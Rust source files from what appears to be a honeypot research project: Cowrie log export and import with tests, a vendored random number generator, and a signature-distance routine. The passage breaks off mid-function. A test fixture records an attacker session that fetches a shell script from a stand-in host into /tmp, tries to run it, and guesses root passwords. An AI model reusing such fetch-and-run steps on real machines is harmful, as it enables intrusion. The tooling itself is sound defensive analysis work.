        assert_eq!(pool.draw(&mut rng), None);
    }

    #[test]
    fn pool_draw_is_deterministic() {
        let draw_all = || {
            let mut pool = Ipv4Pool::new(vec![Prefix::new(Ipv4Addr(0xC0000200), 28)]);
            let mut rng = StdRng::seed_from_u64(99);
            std::iter::from_fn(move || pool.draw(&mut rng)).collect::<Vec<_>>()
        };
        assert_eq!(draw_all(), draw_all());
    }
}
