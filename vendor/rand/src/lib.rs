//! Vendored minimal stand-in for the `rand` crate.
//!
//! The build environment has no registry access, so the workspace vendors
//! exactly the API surface it uses: [`rngs::StdRng`] seeded via
//! [`SeedableRng::seed_from_u64`], and the [`Rng`] extension methods
//! `random::<T>()` / `random_range(range)`.
//!
//! `StdRng` here is a SplitMix64 generator — statistically solid for
//! simulation workloads, deterministic across platforms, and trivially
//! seedable from a `u64`. It is **not** the upstream ChaCha12 generator and
//! must not be used for anything security-sensitive; nothing in this
//! workspace does.

use std::ops::{Range, RangeInclusive};

/// Core trait: a source of 64-bit random words.
pub trait RngCore {
    fn next_u64(&mut self) -> u64;
}

impl<T: RngCore + ?Sized> RngCore for &mut T {
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
}

/// Seedable generators (only the `seed_from_u64` entry point is provided).
pub trait SeedableRng: Sized {
    fn seed_from_u64(seed: u64) -> Self;
}

pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// Deterministic 64-bit generator (SplitMix64).
    #[derive(Debug, Clone, PartialEq, Eq)]
    pub struct StdRng {
        state: u64,
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            Self { state: seed }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }
}

/// Types producible by [`Rng::random`] (the `StandardUniform` distribution).
pub trait Standard: Sized {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl Standard for u64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64()
    }
}

impl Standard for u32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u64() >> 32) as u32
    }
}

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 uniformly random mantissa bits in [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

/// Types uniformly samplable from a range. The blanket [`SampleRange`]
/// impls over `Range<T>`/`RangeInclusive<T>` are what let type inference
/// flow from the use site into the range literal (e.g. using the result as
/// a slice index resolves the literal to `usize`), mirroring upstream.
pub trait SampleUniform: Copy {
    /// Uniform draw from `[lo, hi)` (`inclusive = false`) or `[lo, hi]`.
    fn sample_uniform<R: RngCore + ?Sized>(
        rng: &mut R,
        lo: Self,
        hi: Self,
        inclusive: bool,
    ) -> Self;
}

macro_rules! impl_sample_uniform_int {
    ($($t:ty),+) => {$(
        impl SampleUniform for $t {
            fn sample_uniform<R: RngCore + ?Sized>(rng: &mut R, lo: Self, hi: Self, inclusive: bool) -> Self {
                let span = (hi as i128 - lo as i128) + if inclusive { 1 } else { 0 };
                assert!(span > 0, "cannot sample empty range");
                let off = (rng.next_u64() as u128 % span as u128) as i128;
                (lo as i128 + off) as $t
            }
        }
    )+};
}

impl_sample_uniform_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl SampleUniform for f64 {
    fn sample_uniform<R: RngCore + ?Sized>(
        rng: &mut R,
        lo: Self,
        hi: Self,
        _inclusive: bool,
    ) -> Self {
        assert!(lo < hi, "cannot sample empty range");
        lo + f64::sample(rng) * (hi - lo)
    }
}

/// Ranges samplable by [`Rng::random_range`].
pub trait SampleRange<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform> SampleRange<T> for Range<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_uniform(rng, self.start, self.end, false)
    }
}

impl<T: SampleUniform> SampleRange<T> for RangeInclusive<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_uniform(rng, *self.start(), *self.end(), true)
    }
}

/// Extension methods available on every [`RngCore`].
pub trait Rng: RngCore {
    fn random<T: Standard>(&mut self) -> T {
        T::sample(self)
    }

    fn random_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample(self)
    }
}

impl<T: RngCore + ?Sized> Rng for T {}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_across_seeds() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.random::<u64>(), b.random::<u64>());
        }
        let mut c = StdRng::seed_from_u64(43);
        assert_ne!(a.random::<u64>(), c.random::<u64>());
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..10_000 {
            let x = rng.random_range(3..17u32);
            assert!((3..17).contains(&x));
            let y = rng.random_range(-5i64..=5);
            assert!((-5..=5).contains(&y));
            let f = rng.random::<f64>();
            assert!((0.0..1.0).contains(&f));
            let g = rng.random_range(2.5f64..3.5);
            assert!((2.5..3.5).contains(&g));
        }
    }

    #[test]
    fn full_width_inclusive_range_is_safe() {
        let mut rng = StdRng::seed_from_u64(9);
        let _ = rng.random_range(0u64..=u64::MAX);
        let _ = rng.random_range(i64::MIN..=i64::MAX);
    }

    #[test]
    fn values_are_spread() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut buckets = [0usize; 8];
        for _ in 0..8000 {
            buckets[rng.random_range(0..8usize)] += 1;
        }
        for (i, &b) in buckets.iter().enumerate() {
            assert!(b > 800 && b < 1200, "bucket {i} skewed: {b}");
        }
    }
}
