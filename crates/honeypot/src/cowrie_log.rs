//! Cowrie-format JSON event log: export and import.
//!
//! Cowrie writes one JSON object per line (`cowrie.json`), one event per
//! protocol action. Emitting that exact format lets existing Cowrie
//! tooling consume honeylab's synthetic sessions; parsing it lets the
//! analysis pipeline run over logs from *real* Cowrie deployments — the
//! adoption path for anyone wanting to apply the paper's methodology to
//! their own honeypot.
//!
//! Event kinds produced/consumed (the subset the analysis needs):
//!
//! | eventid | fields used |
//! |---|---|
//! | `cowrie.session.connect` | `src_ip`, `src_port`, `dst_ip`, `protocol`, `session`, `timestamp` |
//! | `cowrie.client.version` | `version` |
//! | `cowrie.login.success` / `cowrie.login.failed` | `username`, `password` |
//! | `cowrie.command.input` / `cowrie.command.failed` | `input` |
//! | `cowrie.session.file_download` | `url`, `shasum`, `outfile` |
//! | `cowrie.session.file_download.failed` | `url` |
//! | `cowrie.session.closed` | `duration` |

use crate::record::{
    CommandRecord, FileEvent, FileOp, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
};
use hutil::{DateTime, Json};
use netsim::Ipv4Addr;
use std::collections::BTreeMap;

/// Cowrie session ids are short hex strings; we derive one from the
/// numeric session id.
fn session_tag(id: u64) -> String {
    format!("{id:012x}")
}

fn base_event(rec: &SessionRecord, eventid: &str, at: DateTime) -> Vec<(String, Json)> {
    vec![
        ("eventid".to_string(), Json::str(eventid)),
        ("timestamp".to_string(), Json::str(at.iso8601())),
        (
            "session".to_string(),
            Json::str(session_tag(rec.session_id)),
        ),
        ("src_ip".to_string(), Json::str(rec.client_ip.to_string())),
    ]
}

/// Renders one session as its Cowrie event sequence (already in
/// chronological order).
pub fn to_cowrie_events(rec: &SessionRecord) -> Vec<Json> {
    let mut out = Vec::new();
    let mut connect = base_event(rec, "cowrie.session.connect", rec.start);
    connect.push(("src_port".to_string(), Json::Num(rec.client_port as f64)));
    connect.push(("dst_ip".to_string(), Json::str(rec.honeypot_ip.to_string())));
    connect.push((
        "dst_port".to_string(),
        Json::Num(if rec.protocol == Protocol::Ssh {
            22.0
        } else {
            23.0
        }),
    ));
    connect.push((
        "protocol".to_string(),
        Json::str(if rec.protocol == Protocol::Ssh {
            "ssh"
        } else {
            "telnet"
        }),
    ));
    out.push(Json::Obj(connect));

    if let Some(v) = &rec.client_version {
        let mut ev = base_event(rec, "cowrie.client.version", rec.start);
        ev.push(("version".to_string(), Json::str(v.clone())));
        out.push(Json::Obj(ev));
    }

    for l in &rec.logins {
        let id = if l.success {
            "cowrie.login.success"
        } else {
            "cowrie.login.failed"
        };
        let mut ev = base_event(rec, id, rec.start);
        ev.push(("username".to_string(), Json::str(l.username.clone())));
        ev.push(("password".to_string(), Json::str(l.password.clone())));
        out.push(Json::Obj(ev));
    }

    for c in &rec.commands {
        let id = if c.known {
            "cowrie.command.input"
        } else {
            "cowrie.command.failed"
        };
        let mut ev = base_event(rec, id, rec.start);
        ev.push(("input".to_string(), Json::str(c.input.clone())));
        out.push(Json::Obj(ev));
    }

    for f in &rec.file_events {
        match &f.op {
            FileOp::Created { sha256 } | FileOp::Modified { sha256 } => {
                if let Some(uri) = &f.source_uri {
                    let mut ev = base_event(rec, "cowrie.session.file_download", rec.start);
                    ev.push(("url".to_string(), Json::str(uri.clone())));
                    ev.push(("shasum".to_string(), Json::str(sha256.clone())));
                    ev.push(("outfile".to_string(), Json::str(f.path.clone())));
                    out.push(Json::Obj(ev));
                }
            }
            FileOp::DownloadFailed => {
                if let Some(uri) = &f.source_uri {
                    let mut ev = base_event(rec, "cowrie.session.file_download.failed", rec.start);
                    ev.push(("url".to_string(), Json::str(uri.clone())));
                    out.push(Json::Obj(ev));
                }
            }
            _ => {}
        }
    }

    let mut closed = base_event(rec, "cowrie.session.closed", rec.end);
    closed.push((
        "duration".to_string(),
        Json::Num(rec.duration_secs() as f64),
    ));
    closed.push((
        "reason".to_string(),
        Json::str(match rec.end_reason {
            SessionEndReason::ClientClose => "connection lost",
            SessionEndReason::Timeout => "timeout",
        }),
    ));
    out.push(Json::Obj(closed));
    out
}

/// Renders a whole dataset as Cowrie JSON lines.
pub fn to_cowrie_log(sessions: &[SessionRecord]) -> String {
    let mut out = String::new();
    for rec in sessions {
        for ev in to_cowrie_events(rec) {
            out.push_str(&ev.render());
            out.push('\n');
        }
    }
    out
}

/// Problems encountered while importing a Cowrie log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CowrieImportError {
    /// A line failed to parse as JSON.
    BadJson {
        /// 1-based line number.
        line: usize,
        /// Parser message.
        message: String,
    },
}

impl std::fmt::Display for CowrieImportError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CowrieImportError::BadJson { line, message } => {
                write!(f, "line {line}: {message}")
            }
        }
    }
}

impl std::error::Error for CowrieImportError {}

/// One unparseable line of a lossy import, with enough context to locate
/// it in the source log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LineError {
    /// 1-based line number.
    pub line: usize,
    /// Parser message.
    pub message: String,
    /// The offending line, truncated for reporting.
    pub snippet: String,
}

/// Result of a lossy import: every recoverable session plus a structured
/// per-line error report.
#[derive(Debug, Clone, Default)]
pub struct LossyImport {
    /// Recovered sessions, in order of first appearance, dense ids.
    pub sessions: Vec<SessionRecord>,
    /// Per-line parse failures, in line order.
    pub errors: Vec<LineError>,
    /// Non-empty lines seen.
    pub lines_total: usize,
}

impl LossyImport {
    /// Number of lines that failed to parse.
    pub fn lines_bad(&self) -> usize {
        self.errors.len()
    }
}

/// Grouping state shared by the strict and lossy importers.
#[derive(Default)]
struct Importer {
    partials: BTreeMap<String, Partial>,
    next_order: usize,
}

struct Partial {
    rec: SessionRecord,
    order: usize,
}

impl Importer {
    fn finish(self) -> Vec<SessionRecord> {
        let mut out: Vec<Partial> = self.partials.into_values().collect();
        out.sort_by_key(|p| p.order);
        out.into_iter()
            .enumerate()
            .map(|(i, mut p)| {
                p.rec.session_id = i as u64;
                p.rec
            })
            .collect()
    }

    /// Folds one parsed event into its session's partial record. Events
    /// without `session`/`eventid` fields and unknown event ids are
    /// ignored (real Cowrie logs contain dozens of kinds the analysis
    /// never uses).
    fn apply(&mut self, ev: &Json) {
        let Some(session) = ev.get("session").and_then(Json::as_str) else {
            return;
        };
        let Some(eventid) = ev.get("eventid").and_then(Json::as_str) else {
            return;
        };
        let timestamp = ev
            .get("timestamp")
            .and_then(Json::as_str)
            .and_then(DateTime::parse_iso8601)
            .unwrap_or_default();

        let next_order = &mut self.next_order;
        let partial = self.partials.entry(session.to_string()).or_insert_with(|| {
            let order = *next_order;
            *next_order += 1;
            Partial {
                order,
                rec: SessionRecord {
                    session_id: 0,
                    honeypot_id: 0,
                    honeypot_ip: Ipv4Addr(0),
                    client_ip: Ipv4Addr(0),
                    client_port: 0,
                    protocol: Protocol::Ssh,
                    start: timestamp,
                    end: timestamp,
                    end_reason: SessionEndReason::ClientClose,
                    client_version: None,
                    logins: Vec::new(),
                    commands: Vec::new(),
                    uris: Vec::new(),
                    file_events: Vec::new(),
                },
            }
        });
        let rec = &mut partial.rec;
        if timestamp > rec.end {
            rec.end = timestamp;
        }
        match eventid {
            "cowrie.session.connect" => {
                rec.start = timestamp;
                if let Some(ip) = ev
                    .get("src_ip")
                    .and_then(Json::as_str)
                    .and_then(Ipv4Addr::parse)
                {
                    rec.client_ip = ip;
                }
                if let Some(p) = ev.get("src_port").and_then(Json::as_i64) {
                    rec.client_port = p as u16;
                }
                if let Some(ip) = ev
                    .get("dst_ip")
                    .and_then(Json::as_str)
                    .and_then(Ipv4Addr::parse)
                {
                    rec.honeypot_ip = ip;
                }
                if ev.get("protocol").and_then(Json::as_str) == Some("telnet") {
                    rec.protocol = Protocol::Telnet;
                }
            }
            "cowrie.client.version" => {
                rec.client_version = ev.get("version").and_then(Json::as_str).map(str::to_string);
            }
            "cowrie.login.success" | "cowrie.login.failed" => {
                rec.logins.push(LoginAttempt {
                    username: ev
                        .get("username")
                        .and_then(Json::as_str)
                        .unwrap_or_default()
                        .to_string(),
                    password: ev
                        .get("password")
                        .and_then(Json::as_str)
                        .unwrap_or_default()
                        .to_string(),
                    success: eventid == "cowrie.login.success",
                });
            }
            "cowrie.command.input" | "cowrie.command.failed" => {
                if let Some(input) = ev.get("input").and_then(Json::as_str) {
                    rec.commands.push(CommandRecord {
                        input: input.to_string(),
                        known: eventid == "cowrie.command.input",
                    });
                    // Recover recorded URIs from the command text, as the
                    // sensor does.
                    for tok in input.split_whitespace() {
                        if tok.contains("://") {
                            rec.uris.push(tok.trim_matches('"').to_string());
                        }
                    }
                }
            }
            "cowrie.session.file_download" => {
                let url = ev.get("url").and_then(Json::as_str).map(str::to_string);
                if let Some(u) = &url {
                    if !rec.uris.contains(u) {
                        rec.uris.push(u.clone());
                    }
                }
                rec.file_events.push(FileEvent {
                    path: ev
                        .get("outfile")
                        .and_then(Json::as_str)
                        .unwrap_or("/tmp/unknown")
                        .to_string(),
                    op: FileOp::Created {
                        sha256: ev
                            .get("shasum")
                            .and_then(Json::as_str)
                            .unwrap_or_default()
                            .to_string(),
                    },
                    source_uri: url,
                });
            }
            "cowrie.session.file_download.failed" => {
                let url = ev.get("url").and_then(Json::as_str).map(str::to_string);
                rec.file_events.push(FileEvent {
                    path: "/tmp/unknown".to_string(),
                    op: FileOp::DownloadFailed,
                    source_uri: url,
                });
            }
            "cowrie.session.closed" => {
                if let Some(d) = ev.get("duration").and_then(Json::as_i64) {
                    rec.end = rec.start.plus_secs(d);
                } else {
                    rec.end = timestamp;
                }
                if ev.get("reason").and_then(Json::as_str) == Some("timeout") {
                    rec.end_reason = SessionEndReason::Timeout;
                }
            }
            _ => {}
        }
    }
}

/// Parses a Cowrie JSON-lines log into session records, aborting on the
/// first malformed line.
///
/// Events are grouped by their `session` field; unknown event ids are
/// ignored. Sessions are returned in order of first appearance, with
/// dense ids assigned. For logs that may be corrupted or truncated, use
/// [`from_cowrie_log_lossy`] instead.
pub fn from_cowrie_log(log: &str) -> Result<Vec<SessionRecord>, CowrieImportError> {
    let mut imp = Importer::default();
    for (lineno, line) in log.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        let ev = Json::parse(line).map_err(|e| CowrieImportError::BadJson {
            line: lineno + 1,
            message: e.message,
        })?;
        imp.apply(&ev);
    }
    Ok(imp.finish())
}

/// Parses a Cowrie JSON-lines log, recovering every parseable session.
///
/// Real log files arrive corrupted: truncated mid-write, interleaved by
/// concurrent writers, bit-flipped in transit. This importer skips each
/// malformed line, records it in a structured per-line error report, and
/// keeps grouping the rest — a session whose own lines all survived is
/// recovered in full regardless of damage elsewhere in the file. On a
/// clean log it returns exactly what [`from_cowrie_log`] returns, with an
/// empty error list.
pub fn from_cowrie_log_lossy(log: &str) -> LossyImport {
    const SNIPPET_LEN: usize = 80;
    let mut imp = Importer::default();
    let mut errors = Vec::new();
    let mut lines_total = 0usize;
    for (lineno, line) in log.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        lines_total += 1;
        match Json::parse(line) {
            Ok(ev) => imp.apply(&ev),
            Err(e) => {
                errors.push(LineError {
                    line: lineno + 1,
                    message: e.message,
                    snippet: line.chars().take(SNIPPET_LEN).collect(),
                });
            }
        }
    }
    LossyImport {
        sessions: imp.finish(),
        errors,
        lines_total,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hutil::Date;

    fn sample() -> SessionRecord {
        SessionRecord {
            session_id: 7,
            honeypot_id: 3,
            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
            client_ip: Ipv4Addr::from_octets(10, 1, 2, 3),
            client_port: 40111,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 5, 10).at(4, 30, 0),
            end: Date::new(2022, 5, 10).at(4, 30, 25),
            end_reason: SessionEndReason::ClientClose,
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![
                LoginAttempt {
                    username: "root".into(),
                    password: "root".into(),
                    success: false,
                },
                LoginAttempt {
                    username: "root".into(),
                    password: "admin".into(),
                    success: true,
                },
            ],
            commands: vec![
                CommandRecord {
                    input: "uname -a".into(),
                    known: true,
                },
                CommandRecord {
                    input: "lenni0451 --x".into(),
                    known: false,
                },
            ],
            uris: vec!["http://203.0.113.5/x.sh".into()],
            file_events: vec![
                FileEvent {
                    path: "/tmp/x.sh".into(),
                    op: FileOp::Created {
                        sha256: "ab".repeat(32),
                    },
                    source_uri: Some("http://203.0.113.5/x.sh".into()),
                },
                FileEvent {
                    path: "/tmp/x.sh".into(),
                    op: FileOp::ExecAttempt {
                        sha256: Some("ab".repeat(32)),
                    },
                    source_uri: None,
                },
            ],
        }
    }

    #[test]
    fn export_produces_expected_event_sequence() {
        let events = to_cowrie_events(&sample());
        let ids: Vec<&str> = events
            .iter()
            .map(|e| e.get("eventid").and_then(Json::as_str).unwrap())
            .collect();
        assert_eq!(
            ids,
            vec![
                "cowrie.session.connect",
                "cowrie.client.version",
                "cowrie.login.failed",
                "cowrie.login.success",
                "cowrie.command.input",
                "cowrie.command.failed",
                "cowrie.session.file_download",
                "cowrie.session.closed",
            ]
        );
        // Timestamps are ISO 8601.
        assert_eq!(
            events[0].get("timestamp").and_then(Json::as_str),
            Some("2022-05-10T04:30:00Z")
        );
        // Session tag is stable hex.
        assert_eq!(
            events[0].get("session").and_then(Json::as_str),
            Some("000000000007")
        );
    }

    #[test]
    fn log_roundtrip_preserves_analysis_fields() {
        let original = sample();
        let log = to_cowrie_log(std::slice::from_ref(&original));
        let back = from_cowrie_log(&log).unwrap();
        assert_eq!(back.len(), 1);
        let rec = &back[0];
        assert_eq!(rec.client_ip, original.client_ip);
        assert_eq!(rec.client_port, original.client_port);
        assert_eq!(rec.protocol, original.protocol);
        assert_eq!(rec.start, original.start);
        assert_eq!(rec.duration_secs(), original.duration_secs());
        assert_eq!(rec.client_version, original.client_version);
        assert_eq!(rec.logins, original.logins);
        assert_eq!(rec.commands, original.commands);
        assert_eq!(rec.uris, original.uris);
        // Downloaded-file capture survives (exec attempts are not part of
        // Cowrie's log schema, so they do not).
        assert_eq!(
            rec.dropped_hashes().collect::<Vec<_>>(),
            vec!["ab".repeat(32)]
        );
        assert_eq!(rec.accepted_password(), Some("admin"));
    }

    #[test]
    fn import_groups_interleaved_sessions() {
        // Two sessions with interleaved events, as a real log would have.
        let log = concat!(
            r#"{"eventid":"cowrie.session.connect","timestamp":"2023-01-01T00:00:00Z","session":"aaa","src_ip":"10.0.0.1","src_port":1,"dst_ip":"100.0.0.1","dst_port":22,"protocol":"ssh"}"#,
            "\n",
            r#"{"eventid":"cowrie.session.connect","timestamp":"2023-01-01T00:00:01Z","session":"bbb","src_ip":"10.0.0.2","src_port":2,"dst_ip":"100.0.0.1","dst_port":23,"protocol":"telnet"}"#,
            "\n",
            r#"{"eventid":"cowrie.login.success","timestamp":"2023-01-01T00:00:02Z","session":"aaa","username":"root","password":"x"}"#,
            "\n",
            r#"{"eventid":"cowrie.login.failed","timestamp":"2023-01-01T00:00:03Z","session":"bbb","username":"root","password":"root"}"#,
            "\n",
            r#"{"eventid":"cowrie.command.input","timestamp":"2023-01-01T00:00:04Z","session":"aaa","input":"echo ok"}"#,
            "\n",
            r#"{"eventid":"cowrie.session.closed","timestamp":"2023-01-01T00:00:09Z","session":"aaa","duration":9}"#,
            "\n",
            r#"{"eventid":"cowrie.session.closed","timestamp":"2023-01-01T00:00:05Z","session":"bbb","duration":4}"#,
            "\n",
        );
        let recs = from_cowrie_log(log).unwrap();
        assert_eq!(recs.len(), 2);
        assert_eq!(recs[0].client_ip, Ipv4Addr::from_octets(10, 0, 0, 1));
        assert_eq!(recs[0].commands.len(), 1);
        assert!(recs[0].login_succeeded());
        assert_eq!(recs[1].protocol, Protocol::Telnet);
        assert!(!recs[1].login_succeeded());
        assert_eq!(recs[1].duration_secs(), 4);
    }

    #[test]
    fn import_skips_unknown_event_kinds() {
        let log = concat!(
            r#"{"eventid":"cowrie.session.connect","timestamp":"2023-01-01T00:00:00Z","session":"x","src_ip":"10.0.0.9","src_port":5,"dst_ip":"100.0.0.1","dst_port":22,"protocol":"ssh"}"#,
            "\n",
            r#"{"eventid":"cowrie.direct-tcpip.request","session":"x","timestamp":"2023-01-01T00:00:01Z"}"#,
            "\n",
            r#"{"eventid":"cowrie.log.closed","session":"x","timestamp":"2023-01-01T00:00:02Z"}"#,
            "\n",
        );
        let recs = from_cowrie_log(log).unwrap();
        assert_eq!(recs.len(), 1);
        assert!(recs[0].commands.is_empty());
    }

    #[test]
    fn import_reports_bad_json_with_line_number() {
        let log = "{\"eventid\":\"cowrie.session.connect\",\"session\":\"a\",\"timestamp\":\"2023-01-01T00:00:00Z\"}\nnot json\n";
        let err = from_cowrie_log(log).unwrap_err();
        assert!(matches!(err, CowrieImportError::BadJson { line: 2, .. }));
    }

    #[test]
    fn lossy_on_clean_log_equals_strict() {
        let log = to_cowrie_log(&[sample(), {
            let mut r = sample();
            r.session_id = 8;
            r.client_ip = Ipv4Addr::from_octets(10, 9, 9, 9);
            r
        }]);
        let strict = from_cowrie_log(&log).unwrap();
        let lossy = from_cowrie_log_lossy(&log);
        assert!(lossy.errors.is_empty());
        assert_eq!(lossy.lines_total, log.lines().count());
        assert_eq!(lossy.sessions, strict);
    }

    #[test]
    fn lossy_recovers_sessions_around_corruption() {
        let a = sample();
        let mut b = sample();
        b.session_id = 9;
        b.client_ip = Ipv4Addr::from_octets(10, 4, 4, 4);
        let log_a = to_cowrie_log(std::slice::from_ref(&a));
        let log_b = to_cowrie_log(std::slice::from_ref(&b));
        // Garbage between the two sessions, plus a truncated final line.
        let log = format!("{log_a}!! not json at all\n{log_b}{{\"eventid\":\"cowrie.sess");
        assert!(from_cowrie_log(&log).is_err(), "strict import must abort");
        let lossy = from_cowrie_log_lossy(&log);
        assert_eq!(lossy.errors.len(), 2);
        assert_eq!(lossy.errors[0].line, log_a.lines().count() + 1);
        assert_eq!(lossy.errors[0].snippet, "!! not json at all");
        assert_eq!(lossy.sessions.len(), 2);
        assert_eq!(lossy.sessions[0].client_ip, a.client_ip);
        assert_eq!(lossy.sessions[1].client_ip, b.client_ip);
        assert_eq!(lossy.sessions[1].commands, b.commands);
    }

    #[test]
    fn lossy_recovers_interleaved_session_when_peer_is_corrupted() {
        // Session "aaa" intact, session "bbb" loses its connect line.
        let log = concat!(
            r#"{"eventid":"cowrie.session.connect","timestamp":"2023-01-01T00:00:00Z","session":"aaa","src_ip":"10.0.0.1","src_port":1,"dst_ip":"100.0.0.1","dst_port":22,"protocol":"ssh"}"#,
            "\n",
            r#"{"eventid":"cowrie.session.connect","timestamp":"2023-01-01T00:00:01Z","sess"#,
            "\n",
            r#"{"eventid":"cowrie.login.success","timestamp":"2023-01-01T00:00:02Z","session":"aaa","username":"root","password":"x"}"#,
            "\n",
            r#"{"eventid":"cowrie.login.failed","timestamp":"2023-01-01T00:00:03Z","session":"bbb","username":"root","password":"root"}"#,
            "\n",
            r#"{"eventid":"cowrie.session.closed","timestamp":"2023-01-01T00:00:09Z","session":"aaa","duration":9}"#,
            "\n",
        );
        let lossy = from_cowrie_log_lossy(log);
        assert_eq!(lossy.errors.len(), 1);
        assert_eq!(lossy.errors[0].line, 2);
        assert_eq!(lossy.sessions.len(), 2);
        let aaa = &lossy.sessions[0];
        assert_eq!(aaa.client_ip, Ipv4Addr::from_octets(10, 0, 0, 1));
        assert!(aaa.login_succeeded());
        assert_eq!(aaa.duration_secs(), 9);
    }

    #[test]
    fn exported_log_feeds_the_classifier() {
        // End-to-end: record → Cowrie log → records → Table 1 category.
        let mut rec = sample();
        rec.commands = vec![CommandRecord {
            input: r#"echo -e "\x6F\x6B""#.into(),
            known: true,
        }];
        let log = to_cowrie_log(std::slice::from_ref(&rec));
        let back = from_cowrie_log(&log).unwrap();
        assert_eq!(back[0].commands[0].input, rec.commands[0].input);
    }
}
