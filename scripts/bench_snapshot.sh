#!/usr/bin/env bash
# Refresh the checked-in benchmark snapshots.
# Run from the repository root: ./scripts/bench_snapshot.sh
#
# Currently one snapshot: BENCH_classify.json, the prefiltered-vs-naive
# Table 1 classification throughput (see crates/bench/benches/classify.rs).
# The classify bench is a plain timing loop with its own JSON writer
# because the vendored criterion has no machine-readable output.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== bench snapshot: classify (prefiltered vs naive) =="
cargo bench -p honeylab-bench --bench classify -- --json "$PWD/BENCH_classify.json"

echo "== bench snapshot: wrote BENCH_classify.json =="
cat BENCH_classify.json
