//! Damerau-Levenshtein distance over token sequences (paper §6).
//!
//! The paper computes DLD treating each *token* as a single character.
//! This is the standard optimal-string-alignment formulation (insert,
//! delete, substitute, transpose-adjacent), generic over any `PartialEq`
//! element type.

/// Damerau-Levenshtein (optimal string alignment) distance between two
/// sequences.
pub fn dld<T: PartialEq>(a: &[T], b: &[T]) -> usize {
    let (n, m) = (a.len(), b.len());
    if n == 0 {
        return m;
    }
    if m == 0 {
        return n;
    }
    // Three rolling rows: i-2, i-1, i.
    let mut prev2 = vec![0usize; m + 1];
    let mut prev = (0..=m).collect::<Vec<usize>>();
    let mut cur = vec![0usize; m + 1];
    for i in 1..=n {
        cur[0] = i;
        for j in 1..=m {
            let cost = usize::from(a[i - 1] != b[j - 1]);
            let mut best = (prev[j] + 1) // deletion
                .min(cur[j - 1] + 1) // insertion
                .min(prev[j - 1] + cost); // substitution
            if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                best = best.min(prev2[j - 2] + 1); // transposition
            }
            cur[j] = best;
        }
        std::mem::swap(&mut prev2, &mut prev);
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[m]
}

/// Reusable DP rows for [`dld_with_scratch`]. The clustering matrix build
/// calls DLD once per signature pair; allocating three fresh rows per pair
/// (as [`dld`] does) dominated short-sequence pairs, so the hot path
/// threads one scratch per worker through every call instead.
#[derive(Debug, Default)]
pub struct DldScratch {
    prev2: Vec<usize>,
    prev: Vec<usize>,
    cur: Vec<usize>,
}

impl DldScratch {
    /// An empty scratch; rows grow to the longest `b` seen and then stop
    /// allocating.
    pub fn new() -> Self {
        Self::default()
    }
}

/// [`dld`] with caller-provided scratch rows: identical result, no per-call
/// allocation once the scratch has grown to the longest sequence.
///
/// Beyond row reuse, this variant strips the common prefix and suffix
/// before running the DP — exact for the OSA formulation (a matched affix
/// can always be aligned identity-to-identity; no edit script, including
/// adjacent transpositions, improves by disturbing it), and the dominant
/// win on attack signatures, which share long `cd /tmp; wget …` affixes.
/// The inner loop carries the `cur[j-1]`/`prev[j-1]` cells in registers.
/// Equivalence with [`dld`] is pinned by `tests/prop_cluster.rs`.
pub fn dld_with_scratch<T: PartialEq>(a: &[T], b: &[T], s: &mut DldScratch) -> usize {
    let common = a.len().min(b.len());
    let mut lo = 0;
    while lo < common && a[lo] == b[lo] {
        lo += 1;
    }
    let (a, b) = (&a[lo..], &b[lo..]);
    let common = a.len().min(b.len());
    let mut cut = 0;
    while cut < common && a[a.len() - 1 - cut] == b[b.len() - 1 - cut] {
        cut += 1;
    }
    let (a, b) = (&a[..a.len() - cut], &b[..b.len() - cut]);

    let (n, m) = (a.len(), b.len());
    if n == 0 {
        return m;
    }
    if m == 0 {
        return n;
    }
    s.prev2.clear();
    s.prev2.resize(m + 1, 0);
    s.prev.clear();
    s.prev.extend(0..=m);
    s.cur.clear();
    s.cur.resize(m + 1, 0);
    for i in 1..=n {
        s.cur[0] = i;
        let ai = &a[i - 1];
